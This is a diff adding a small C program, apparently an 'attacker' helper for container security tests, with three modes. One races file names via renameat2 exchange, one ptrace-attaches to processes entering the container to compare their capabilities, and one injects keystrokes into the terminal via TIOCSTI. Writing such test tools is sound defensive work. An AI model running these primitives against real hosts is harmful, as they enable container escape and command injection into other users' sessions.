@@ -1,0 +1,118 @@
+/*
+ * What somebody hostile runs in a container: one static program, so that it runs in any image. The first word says what it does.
+ * Each loop ends by itself after a number of rounds; what it has won, it prints.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fs.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/ptrace.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define SWAPS 50000000l
+#define SWAPS_UNTIL_READY 100
+#define ROUNDS 20000000l
+
+static void say(const char *text)
+{
+    if (write(STDOUT_FILENO, text, strlen(text)) < 0)
+        _exit(1);
+}
+
+/* swap A B: exchanges two names all the time. A reader of either sees one thing, then the other, and never nothing. */
+static int swap(const char *one, const char *other)
+{
+    for (long count = 0; count < SWAPS; count++) {
+        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0)
+            return errno == ENOENT ? 0 : (perror("renameat2"), 1); /* its directory has gone: the test is over */
+        if (count == SWAPS_UNTIL_READY)
+            say("swapping\n");
+    }
+    return 0;
+}
+
+static bool traced(pid_t pid)
+{
+    int status;
+
+    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
+        return false;
+    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+    waitpid(pid, &status, __WALL);
+    return true;
+}
+
+/* The capabilities that a process has at this moment, as /proc says them. */
+static unsigned long long effective(pid_t pid)
+{
+    char path[64], line[256];
+    unsigned long long mask = 0;
+
+    snprintf(path, sizeof path, "/proc/%d/status", pid);
+    FILE *status = fopen(path, "re");
+
+    while (status != NULL && fgets(line, sizeof line, status) != NULL)
+        if (sscanf(line, "CapEff: %llx", &mask) == 1)
+            break;
+    if (status != NULL)
+        fclose(status);
+    return mask;
+}
+
+/* hunt N: traces N processes as soon as each exists, and says what they may do that we may not. */
+static int hunt(int wanted)
+{
+    unsigned long long ours = effective(getpid());
+    pid_t next = getpid() + 1;
+    char text[160];
+
+    say("hunting\n");
+    for (long round = 0; round < ROUNDS && wanted > 0; round++) {
+        /* A process that enters the namespace takes the next number; nobody else makes any. */
+        if (!traced(next)) {
+            if (errno != ESRCH) {
+                snprintf(text, sizeof text, "refused %d\n", errno);
+                say(text);
+                wanted--;
+                next++;
+            }
+            continue;
+        }
+        snprintf(text, sizeof text, "caught %s\n", (effective(next) & ~ours) ? "with more than we have" : "an equal");
+        say(text);
+        ptrace(PTRACE_DETACH, next, 0, 0);
+        next++;
+        wanted--;
+    }
+    return 0;
+}
+
+/* type TEXT: puts characters into the input of our terminal, for whoever reads it behind us. */
+static int type(const char *text)
+{
+    for (; *text != 0; text++)
+        if (ioctl(STDIN_FILENO, TIOCSTI, text) < 0)
+            return perror("TIOCSTI"), 1;
+    return 0;
+}
+
+int main(int argc, char **argv)
+{
+    if (argc == 4 && strcmp(argv[1], "swap") == 0)
+        return swap(argv[2], argv[3]);
+    if (argc == 3 && strcmp(argv[1], "hunt") == 0)
+        return hunt(atoi(argv[2]));
+    if (argc == 3 && strcmp(argv[1], "type") == 0)
+        return type(argv[2]);
+    fprintf(stderr, "usage: attacker swap A B | hunt N | type TEXT\n");
+    return 2;
+}
